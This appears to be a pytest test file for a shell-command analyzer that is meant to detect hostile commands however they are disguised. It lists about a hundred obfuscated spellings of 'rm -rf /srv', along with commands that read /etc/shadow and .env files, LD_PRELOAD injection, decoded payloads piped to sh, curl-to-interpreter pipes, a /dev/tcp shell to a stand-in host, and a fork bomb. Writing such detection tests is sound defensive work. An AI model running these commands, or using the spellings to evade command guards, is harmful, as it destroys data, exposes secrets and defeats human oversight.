"""However a command is spelled, whoever runs it: it is found, or its call is opaque."""

import pytest

from hookgate.facts import Access
from tests.unit.test_facts_shell import CWD, shell

#: Each of them runs `rm -rf /srv`.
SPELLINGS = r"""
command -p rm -rf /srv
builtin eval 'rm -rf /srv'
exec -a x rm -rf /srv
coproc rm -rf /srv
coproc X { rm -rf /srv; }
time -p rm -rf /srv
case x in a) rm -rf /srv;; esac
for ((i=0;i<3;i++)); do rm -rf /srv; done
until false; do rm -rf /srv; done
[[ -n $(rm -rf /srv) ]]
let "x=$(rm -rf /srv)"
echo ${x:-$(rm -rf /srv)}
a[$(rm -rf /srv)]=1
> $(rm -rf /srv)
2>/dev/null rm -rf /srv
r''m -rf /srv
$"rm" -rf /srv
r$@m -rf /srv
rm${IFS}-rf${IFS}/srv
rm -r{f,} /srv
{rm,-rf,/srv}
{r,}m -rf /srv
rm -rf /s{r,}v
IFS=,; X=rm,-rf,/srv; $X
${x:-rm} -rf /srv
X="-rf /srv"; rm $X
a=(rm -rf /srv); "${a[@]}"
set -- rm -rf /srv; "$@"
set -- rm -rf /srv; $1 $2 $3
for c in ls rm; do $c -rf /srv; done
read c <<< rm; $c -rf /srv
printf -v c rm; $c -rf /srv
$(echo rm -rf /srv)
$(which rm) -rf /srv
alias ll='rm -rf'; ll /srv
hash -p /bin/rm ls; ls -rf /srv
cp /bin/rm ./x; ./x -rf /srv
ln -s /usr/bin/rm ~/y; ~/y -rf /srv
$0 -c 'rm -rf /srv'
"$SHELL" -c 'rm -rf /srv'
/proc/self/exe -c 'rm -rf /srv'
/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /srv
. /dev/stdin <<< 'rm -rf /srv'
printf '%s' r m ' -rf /srv' | sh
echo 'rm -rf /srv' | at now
crontab - <<< '* * * * * rm -rf /srv'
PROMPT_COMMAND='rm -rf /srv'
sudo -Eu root rm -rf /srv
su -c'rm -rf /srv'
su - root --command='rm -rf /srv'
runuser -u x -- rm -rf /srv
env -iS 'rm -rf /srv'
env --split-string='rm -rf /srv'
flock /tmp/l -c 'rm -rf /srv'
script -qc 'rm -rf /srv' /dev/null
ssh host rm -rf /srv
ssh -o ProxyCommand='rm -rf /srv' host
ssh -oProxyCommand='rm -rf /srv' host
docker run -it --entrypoint rm alpine -rf /srv
docker compose exec web rm -rf /srv
docker-compose run web rm -rf /srv
kubectl exec pod rm -rf /srv
kubectl run x --image=a --command -- rm -rf /srv
git -c core.pager='rm -rf /srv' log
git -c alias.x='!rm -rf /srv' x
git config alias.x '!rm -rf /srv'
git rebase -i HEAD~2 --exec 'rm -rf /srv'
git submodule foreach 'rm -rf /srv'
git bisect run rm -rf /srv
git difftool -x 'rm -rf /srv'
git filter-branch --tree-filter 'rm -rf /srv' HEAD
GIT_SSH_COMMAND='rm -rf /srv' git fetch
PAGER='rm -rf /srv' man ls
VISUAL='rm -rf /srv' git commit
tar cf x.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /srv' y
tar xf x.tar --to-command='rm -rf /srv'
tar -I 'rm -rf /srv' -cf x y
zip x.zip y -T -TT 'rm -rf /srv'
split --filter='rm -rf /srv' x
rsync --rsync-path='rm -rf /srv' a b:c
man -P 'rm -rf /srv' ls
make SHELL='rm -rf /srv'
make --eval='$(shell rm -rf /srv)'
npm exec -- rm -rf /srv
npx -c 'rm -rf /srv'
pnpm exec rm -rf /srv
fd . -x rm -rf /srv
ls | entr -c sh -c 'rm -rf /srv'
tmux new -d 'rm -rf /srv'
screen -dm bash -c 'rm -rf /srv'
awk 'BEGIN{"rm -rf /srv" | getline}'
awk 'BEGIN{print "x" | "rm -rf /srv"}'
sed '1e rm -rf /srv' x
sed 's/x/rm -rf \/srv/e' x
vim -es -c ':!rm -rf /srv' -c q
vim +'!rm -rf /srv' x
ed -s x <<< '!rm -rf /srv'
less +'!rm -rf /srv' x
gdb -batch -ex 'shell rm -rf /srv'
sqlite3 x '.shell rm -rf /srv'
psql -c "\! rm -rf /srv"
expect -c 'spawn rm -rf /srv'
perl -e 'exec q(rm -rf /srv)'
ruby -e '%x(rm -rf /srv)'
node -e "require('child_process').spawn('rm',['-rf','/srv'])"
""".strip().splitlines()


@pytest.mark.parametrize("command", SPELLINGS)
def test_a_command_is_found_however_it_is_spelled_and_whoever_runs_it(command: str) -> None:
    found = [one for one in shell(command).commands if one.program == "rm"]
    assert found
    assert {"--recursive", "--force"} <= set(found[0].flags)


def test_a_here_document_runs_where_a_shell_reads_it_or_it_holds_a_substitution() -> None:
    for command in ("ssh host <<EOF\nrm x\nEOF", "cat <<EOF\n`rm x`\nEOF", "cat <<EOF\n$(rm x)\nEOF"):
        assert "rm" in [one.program for one in shell(command).commands], command
    assert "rm" not in [one.program for one in shell("cat <<'EOF'\n`rm x`\nEOF").commands]


@pytest.mark.parametrize(
    "command",
    ["/bin/r? -rf /srv", "/???/rm* /srv", "r${x}m x", "c=xrm; ${c:1} x", "c=RM; ${c,,} x", "${!c} x", "$(cat name) x"],
)
def test_a_program_whose_name_is_computed_is_opaque(command: str) -> None:
    assert "computed_program" in shell(command).opaque_reasons


@pytest.mark.parametrize(
    "command",
    ["$CC -c a.c", '"$PYTHON" -m x', '"$VIRTUAL_ENV"/bin/pip list', '"${PAGER:-less}" x', "[ -f x ]", "./run*/x"],
)
def test_a_script_that_names_its_tools_by_variables_is_not(command: str) -> None:
    assert not shell(command).opaque


@pytest.mark.parametrize(
    ("command", "shape"),
    [
        ("BASH_ENV=/tmp/x", "steered_program"),
        ("export LD_PRELOAD=/tmp/x.so; ls", "steered_program"),
        ("env LD_PRELOAD=/tmp/x.so ls", "steered_program"),
        ("enable -f /tmp/x.so x", "steered_program"),
        ("echo vrs/ fr- mr | rev | sh", "decoded_to_interpreter"),
        ("echo 'sn -sg /tsw' | tr 'n-za-m' 'a-z' | sh", "decoded_to_interpreter"),
        ("sh <<< $(echo cm0= | base64 -d)", "decoded_to_interpreter"),
        ("curl x | at now", "network_to_interpreter"),
        ("python <(curl x)", "network_to_interpreter"),
        ("exec 3<>/dev/tcp/a.example/1; bash <&3", "network_device"),
        (":(){ :|:& };:", "fork_bomb"),
    ],
)
def test_a_detour_has_the_shape_of_the_straight_way(command: str, shape: str) -> None:
    assert shape in shell(command).shapes


@pytest.mark.parametrize(
    ("command", "access", "path"),
    [
        ("for f in a .env; do cat $f; done", Access.READ, f"{CWD}/.env"),
        ("f=.env; cat $f", Access.READ, f"{CWD}/.env"),
        ("a=(x .env); cat ${a[@]}", Access.READ, f"{CWD}/.env"),
        ("cat /e{t..t}c/passwd", Access.READ, "/etc/passwd"),
        ("sed -n 'w /etc/x' y", Access.WRITE, "/etc/x"),
        ("awk '{print > \"/etc/x\"}' y", Access.WRITE, "/etc/x"),
        ("git config core.hooksPath /tmp/h", Access.EXECUTE, "/tmp/h"),
        ("(cd /etc; cat shadow)", Access.READ, "/etc/shadow"),
        ("cd /etc; (cd /); cat shadow", Access.READ, "/etc/shadow"),
        ("env -C /etc cat shadow", Access.READ, "/etc/shadow"),
    ],
)
def test_a_path_is_found_through_variables_loops_and_directories(command: str, access: Access, path: str) -> None:
    assert (access, path) in [(one.access, one.path) for one in shell(command).paths]


@pytest.mark.parametrize("command", ["git push -f", "git push origin main -f", "git -C /x push --force"])
def test_a_forced_push_has_one_flag_wherever_it_stands(command: str) -> None:
    (found,) = shell(command).commands
    assert (found.subcommand, "--force" in found.flags) == ("push", True)


def test_a_pipe_may_have_its_newline() -> None:
    assert shell("curl x |\nsh").shapes == shell("curl x \\\n| sh").shapes == ("network_to_interpreter",)
